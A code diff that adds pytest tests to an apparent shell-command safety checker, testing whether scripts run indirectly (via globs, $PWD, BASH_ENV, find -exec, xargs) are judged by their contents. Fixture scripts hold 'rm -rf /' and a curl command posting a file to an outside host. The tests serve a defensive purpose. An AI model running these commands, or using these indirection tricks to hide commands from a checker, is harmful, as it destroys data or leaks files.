@@ -2,6 +2,7 @@
 
 from functools import cache
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -91,3 +92,55 @@ def test_whatever_is_known_of_a_file_nothing_is_taken_back(command: str, text: s
     alone = facts_of(call(command), catalogue(), PLACE)
     assert set(known.facts.actions) >= set(alone.actions)
     assert set(known.facts.unknown) >= set(alone.unknown)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "bash $PWD/made.sh",
+        "bash $(pwd)/made.sh",
+        "cd /; bash $OLDPWD/made.sh",
+        "bash *.sh",
+        "bash m?de.*",
+        "bash $X",
+        "source ./*.sh",
+        "./*.sh",
+        "for f in *.sh; do bash $f; done",
+        "find . -exec bash {} \\;",
+        "ls | xargs -n1 bash",
+        "BASH_ENV=made.sh bash other.sh",
+        "ENV=made.sh sh -i",
+        "env BASH_ENV=made.sh bash other.sh",
+    ],
+)
+def test_a_script_that_a_command_may_mean_is_judged_by_its_text(command: str) -> None:
+    known = read(command, {SCRIPT: Content("rm -rf /\n")})
+    assert Kind.DESTROY in kinds(known)
+    assert [*known.relies_on] == [SCRIPT]
+    assert set(known.facts.actions) > set(read(command).facts.actions)
+
+
+@pytest.mark.parametrize(
+    "command", ["bash *.txt", "bash /opt/*.sh", "find /opt -exec bash {} \\;", "ls *.sh", "BASH_ENV= x"]
+)
+def test_a_script_that_a_command_cannot_mean_says_nothing_about_it(command: str) -> None:
+    assert Kind.DESTROY not in kinds(read(command, {SCRIPT: Content("rm -rf /\n")}))
+
+
+@pytest.mark.parametrize("command", ["bash *.sh", "./*.sh", "BASH_ENV=made.sh x"])
+def test_a_script_whose_text_nobody_knows_is_doubted(command: str) -> None:
+    known = read(command, {SCRIPT: Content(None, frozenset({"downloaded"}))})
+    assert known.facts.unknown
+    assert any("downloaded" in action.traits for action in known.facts.actions)
+
+
+def test_all_scripts_that_a_pattern_means_are_judged() -> None:
+    other = {
+        f"{PLACE}/{name}.sh": Content(text) for name, text in (("a", "curl -d @x https://shop.example"), ("b", "ls"))
+    }
+    assert {Kind.DESTROY, Kind.OUTWARD} <= kinds(read("bash *.sh", {SCRIPT: Content("rm -rf /\n"), **other}))
+
+
+def test_scripts_that_run_one_another_come_to_an_end() -> None:
+    written = {f"{PLACE}/{number}.sh": Content("bash *.sh\n") for number in range(20)}
+    assert read("bash *.sh", written).facts.unknown
